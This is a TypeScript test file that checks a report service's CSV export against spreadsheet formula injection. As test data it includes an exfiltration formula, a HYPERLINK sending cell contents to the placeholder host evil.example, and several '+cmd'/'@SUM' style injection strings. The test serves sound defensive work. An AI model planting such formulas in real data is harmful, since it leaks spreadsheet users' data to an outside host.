// Report CSVs open in spreadsheets: host names (typed by users, reported by agents) and package
// names (reported by agents) that look like formulas must arrive as text (OWASP CSV injection).
import t from 'tap'
import { addDestination, buildNotificationTestApp, GENERIC_URL } from '../notifications/helpers/notification-test-app.js'
import { agentReport, createHostViaApi, postReport } from '../helpers/agent-fixtures.js'
import { neutraliseFormula } from '../../src/reports/csv-cell.js'

/** RFC 4180 cells as a spreadsheet reads them (quotes removed, "" unescaped). */
function csvCells(text: string): string[] {
  const cells: string[] = []
  let i = 0
  while (i < text.length) {
    let cell = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        const end = text.indexOf('"', i)
        if (end < 0) throw new Error('unterminated quoted cell')
        cell += text.slice(i, end)
        i = end + 1
        if (text[i] !== '"') break
        cell += '"'
        i++
      }
    } else {
      const end = text.slice(i).search(/[,\n]/)
      cell = end < 0 ? text.slice(i) : text.slice(i, i + end)
      i += cell.length
    }
    cells.push(cell)
    i++ // the separator or newline
  }
  return cells
}

t.test('formula-like cells are prefixed with a quote and quoted', async (t) => {
  for (const [raw, safe] of [
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['web01', 'web01'],
    ['a=b', 'a=b']
  ] as const) {
    t.equal(neutraliseFormula(raw), safe, JSON.stringify(raw))
  }
  t.equal(neutraliseFormula(-3), -3, 'numbers we computed stay numbers')
})

t.test('a scheduled report CSV neutralises formulas from user-typed and agent-reported names', async (t) => {
  const ctx = await buildNotificationTestApp(t)
  const userNamed = await createHostViaApi(ctx.app, ctx.adminToken, '=HYPERLINK("http://evil.example/?x="&A1,"open")')
  const agentHost = await createHostViaApi(ctx.app, ctx.adminToken, 'agent-host')
  const evilPackages = [
    { name: '@SUM(1+1)*cmd', currentVersion: '1', availableVersion: '2', needsUpdate: true, isSecurityUpdate: true },
    { name: '+cmd', currentVersion: '1', availableVersion: '2', needsUpdate: true, isSecurityUpdate: true },
    { name: '-2+3', currentVersion: '1', availableVersion: '2', needsUpdate: true, isSecurityUpdate: true }
  ]
  for (const host of [userNamed, agentHost]) {
    const res = await postReport(ctx, host, agentReport(evilPackages))
    t.equal(res.statusCode, 200, res.body)
  }
  const destination = await addDestination(ctx, GENERIC_URL)
  const created = await ctx.app.inject({
    method: 'POST',
    url: '/api/v1/notifications/scheduled-reports',
    headers: ctx.auth,
    payload: {
      name: 'Weekly',
      frequency: 'weekly',
      days: [1],
      time: '08:00',
      sections: ['hosts_by_updates', 'top_security_packages'],
      destination_ids: [destination],
      attach_csv: true
    }
  })
  t.equal(created.statusCode, 201, created.body)
  t.equal(
    (
      await ctx.app.inject({
        method: 'POST',
        url: `/api/v1/notifications/scheduled-reports/${created.json().id}/run-now`,
        headers: ctx.auth
      })
    ).statusCode,
    202
  )
  await ctx.app.notifications.settle()

  const csv = (ctx.receiver.requests.at(-1)?.json as { csv: string }).csv
  const cells = csvCells(csv)
  for (const cell of cells) t.notMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`)
  t.ok(cells.includes(`'=HYPERLINK("http://evil.example/?x="&A1,"open")`), 'user-typed host name kept as text')
  t.ok(cells.includes("'@SUM(1+1)*cmd") && cells.includes("'+cmd") && cells.includes("'-2+3"), 'agent-reported package names kept as text')
  t.match(csv, /"'@SUM\(1\+1\)\*cmd"/, 'a neutralised cell is written quoted')
  t.match(csv, /^section,metric,value\n/, 'plain cells stay as they were')
})
